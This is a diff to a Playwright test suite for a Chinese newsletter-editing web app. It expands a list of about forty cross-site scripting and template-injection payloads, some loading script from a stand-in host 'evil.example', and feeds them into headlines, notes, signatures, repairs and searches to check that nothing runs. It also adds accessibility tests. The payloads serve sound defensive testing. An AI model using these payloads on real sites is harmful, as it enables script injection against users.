@@ -11,11 +11,13 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, Page, ViewportSize, sync_playwright
 
+from tests.articles.test_repairs import PAGE
 from tests.conftest import ROOT
 from tests.desk.conftest import STEM, chromium
 from tests.mail.peers import Peer
@@ -201,41 +203,94 @@ def test_the_screens_fit_at_double_size(program: Browser, desk: tuple[str, Path]
     page.close()
 
 
-PAYLOADS = [
+# Ways into markup, by the place they are written for (OWASP, XSS Filter Evasion): text, attribute, address, script.
+PAYLOADS = (
     "<script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT >",
+    "<script src=//evil.example/x.js></script>",
+    "<script/src=data:,alert(1)></script>",
+    "</script><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "＜script＞alert(1)＜/script＞",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e",
     '"><svg onload=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover=alert(1) x='",
+    "` onclick=alert(1) `",
     "<img src=x onerror=alert(1)>",
-    "'-alert(1)-'",
-    "</textarea><script>alert(1)</script>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "<img/src=`x`onerror=alert(1)>",
+    "<image href=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
     "<iframe srcdoc='<script>alert(1)</script>'>",
-    "javascript:alert(1)",
-    "{{ config }}",
-]
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=data:text/html,<script>alert(1)</script>>",
+    "<a href=javascript:alert(1)>点</a>",
+    "<form action=javascript:alert(1)><button>点",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<math><mi xlink:href=javascript:alert(1)>点</mi></math>",
+    "</textarea><script>alert(1)</script>",
+    "'-alert(1)-'",
+    "{{ config.items() }}{% for x in [1] %}{{ 7*7 }}{% endfor %}",
+)
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_what_others_wrote_never_runs(program: Browser, folder: Path, payload: str) -> None:
-    page_text = (
-        f"{payload}张家港市总工会开展活动\n7月8日，张家港市总工会走进工地，{payload}为120名职工送去物资。\n张家港市总\n"
-    )
-    safe = payload.replace("/", "∕").replace('"', "＂")
-    (folder / "sources" / f"{safe}.txt").write_text(page_text, "utf-8")
+def test_what_others_wrote_never_runs(program: Browser, folder: Path) -> None:
+    """Each payload stands in a headline, a body, a file's name, a title, a note, a signature, a repair, a search."""
+    for number, payload in enumerate(PAYLOADS):
+        safe = payload.replace("/", "∕").replace('"', "＂")[:60]
+        page_text = f"{payload}张家港市总工会开展活动\n7月8日，张家港市总工会走进工地，{payload}为120名职工送去物资。\n"
+        (folder / "sources" / f"{number:02d}{safe}.txt").write_text(page_text, "utf-8")
     for address, _ in serve(folder):
         page = program.new_page()
         errors = watch(page)
-        page.goto(address)
+        page.route("**/page/*.png", lambda route: route.abort())  # setting 120 drafts takes minutes and shows nothing
         base = address.partition("?")[0]
-        for label, screen in (("标题", f"edit/{STEM}"), ("编者按", f"edit/{STEM}"), ("姓名", f"sign/{STEM}")):
-            page.goto(base + screen)
-            page.get_by_label(label, exact=False).first.fill(payload)
-            page.get_by_label(label, exact=False).first.press("Enter")
+        page.goto(address)
+        page.goto(f"{base}edit/{STEM}")
+        page.get_by_label("编者按").fill("\n".join(PAYLOADS))
+        page.get_by_role("button", name="存编者按").click()
+        for payload in PAYLOADS:  # the page that answers is the next one to be filled
+            page.get_by_label("标题", exact=False).first.fill(payload)
+            page.get_by_role("button", name="改题").click()
+            assert refused(errors) == [], payload
+        for payload in PAYLOADS:
+            page.goto(f"{base}sign/{STEM}")
+            page.get_by_label("姓名", exact=False).first.fill(payload)
+            page.get_by_label("姓名", exact=False).first.press("Enter")
+            page.goto(f"{base}archive/search?q={quote(payload)}")
+            assert page.title().endswith("工会简报")
+            assert refused(errors) == [], payload
         page.goto(base + "sources")
-        page.get_by_role("link", name="张家港").or_(page.locator("td a")).first.click()
+        links = [link.get_attribute("href") for link in page.locator("td a").all()]
+        for place, link in enumerate(links[: len(PAYLOADS)]):
+            page.goto(base + str(link).lstrip("/"))
+            page.locator("input[name=line]").first.check()
+            page.get_by_label("照原报补上").fill(PAYLOADS[place])
+            page.get_by_role("button", name="补字").click()
+            assert refused(errors) == [], link
         for screen in SCREENS:
             page.goto(base + screen)
-        page.goto(f"{base}archive/search?q={payload}")
+        assert refused(errors) == []
         page.close()
-        assert [error for error in errors if "Failed to load resource" not in error] == []
+
+
+def refused(errors: list[str]) -> list[str]:
+    """Return *errors* but those of pages that the desk refused by itself (409, 404)."""
+    return [error for error in errors if "Failed to load resource" not in error]
 
 
 def test_an_entry_is_dragged_to_another_place(program: Browser, desk: tuple[str, Path]) -> None:
@@ -250,6 +305,49 @@ def test_an_entry_is_dragged_to_another_place(program: Browser, desk: tuple[str,
     page.keyboard.press("u")
     page.locator(f'.entry[data-entry="{names[0]}"]:first-child').first.wait_for()
     page.close()
+
+
+@pytest.mark.parametrize("way", ["mouse", "keyboard", "no script"])
+def test_a_suspected_slip_is_decided_where_it_stands(program: Browser, desk: tuple[str, Path], way: str) -> None:
+    address, _ = desk
+    context = program.new_context(java_script_enabled=way != "no script")
+    page = context.new_page()
+    hand = Keyboard(page) if way == "keyboard" else Mouse(page)
+    page.goto(address)
+    page.goto(f"{address.partition('?')[0]}edit/{STEM}")
+    page.locator(".entry", has_text="疑误").locator("a").first.click()
+    hand.press("button", "更正 人脑人心")
+    page.locator("ins", has_text="入脑入心").first.wait_for()
+    assert page.locator("del", has_text="人脑人心").count() == 2  # in the text, and below it
+    hand.press("button", "恢复")
+    hand.press("button", "没有错，不改 人脑人心")
+    page.get_by_text("“人脑人心”不改").wait_for()
+    if way != "no script":
+        assert Axe().run(page).response["violations"] == []
+    context.close()
+
+
+@pytest.mark.parametrize("way", ["mouse", "keyboard", "no script"])
+def test_a_page_that_was_read_wrong_is_mended(program: Browser, desk: tuple[str, Path], way: str) -> None:
+    address, folder = desk
+    (folder / "sources" / "版面.txt").write_text(PAGE, "utf-8")
+    context = program.new_context(java_script_enabled=way != "no script")
+    page = context.new_page()
+    hand = Keyboard(page) if way == "keyboard" else Mouse(page)
+    page.goto(address)
+    page.goto(f"{address.partition('?')[0]}sources")
+    hand.press("link", "版面.txt")
+    hand.press("checkbox", "第3行")
+    hand.press("button", "从选中的行起另成一篇")
+    page.get_by_text("读出 3 篇").wait_for()
+    if way != "no script":
+        assert Axe().run(page).response["violations"] == []
+    hand.press("button", "撤销：第3行")
+    page.get_by_text("读出 2 篇").wait_for()
+    hand.press("checkbox", "第3行")
+    page.get_by_label("接在第").press("Enter")
+    page.get_by_text("请按要做的那个按钮").wait_for()
+    context.close()
 
 
 def digest(*arguments: str, folder: Path, given: str = "") -> subprocess.CompletedProcess[str]:
